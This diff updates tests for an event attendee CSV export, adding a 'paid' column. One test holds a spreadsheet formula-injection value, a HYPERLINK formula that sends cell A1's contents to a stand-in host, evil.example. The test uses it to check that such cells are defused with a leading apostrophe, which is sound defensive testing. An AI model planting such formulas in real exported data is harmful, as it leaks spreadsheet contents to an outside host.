@@ -57,6 +57,7 @@ test('the export: every guest with chips, check-in time and door, manual or tapp
     wallet: '0x5FbDB2315678afecb367f032d93F642f64180aa3',
     note: null,
     needsAttention: false,
+    paid: true,
     chips: [CHIP],
     checkIn: { at: '2026-11-21T10:01:00.000Z', station: 'Door A', method: 'tap', leftAt: null },
     passes: [
@@ -73,7 +74,7 @@ test('the export: every guest with chips, check-in time and door, manual or tapp
 test("a cell a spreadsheet would run as a formula is exported with a leading ' (and read back as text)", async () => {
   await doorNight()
   const csv = attendeesCsv(await exportAttendees(gw.store, { eventId, now: T0 }))
-  expect(csv.startsWith('\uFEFFticket_code,name,email,ticket_type,wallet,note,needs_attention,chips,checked_in_at,check_in_station,check_in_method,left_at,exits,reentries,mint_state,mint_tx_hash\r\n')).toBe(true)
+  expect(csv.startsWith('\uFEFFticket_code,name,email,ticket_type,wallet,note,needs_attention,paid,chips,checked_in_at,check_in_station,check_in_method,left_at,exits,reentries,mint_state,mint_tx_hash\r\n')).toBe(true)
   const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[]
   expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, 'Ada Lovelace', 'Grace Hopper'])
   expect(rows[1]).toMatchObject({
